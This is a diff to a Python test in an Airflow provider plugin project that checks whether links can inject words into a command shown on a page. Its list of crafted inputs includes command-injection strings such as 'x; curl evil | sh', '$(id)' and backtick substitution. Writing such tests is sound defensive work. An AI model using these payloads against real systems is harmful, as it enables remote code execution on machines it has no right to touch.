@@ -6,8 +6,6 @@ import re
 import shutil
 import subprocess
 
-import pytest
-
 from airflow_provider_deltaforge.plugins_airflow import page
 from airflow_provider_deltaforge.plugins_airflow.advice import advice
 from tests.airflow.page_bench import READ, STATIC
@@ -131,10 +129,12 @@ for (const connId of JSON.parse(process.argv[2]))
 """
 
 
-@pytest.mark.skipif(shutil.which("node") is None, reason="needs node")
-def test_a_link_cannot_put_words_into_the_command_the_page_offers():
+def test_a_link_cannot_put_words_into_the_command_the_page_offers(tmp_path):
+    shutil.copytree(STATIC, tmp_path, dirs_exist_ok=True)
+    # A browser is told by the page that these are modules, Node.js by this file.
+    (tmp_path / "package.json").write_text('{"type": "module"}')
     crafted = ["x; curl evil | sh", "$(id)", "`id`", "a\nid", "a\n", "--help", ""]
-    words = [RENDER, str(STATIC / "first_steps.js"), json.dumps(["shop.db-1", *crafted])]
+    words = [RENDER, str(tmp_path / "first_steps.js"), json.dumps(["shop.db-1", *crafted])]
     done = subprocess.run(
         ["node", "--input-type=module", "-e", *words], capture_output=True, text=True, check=False
     )
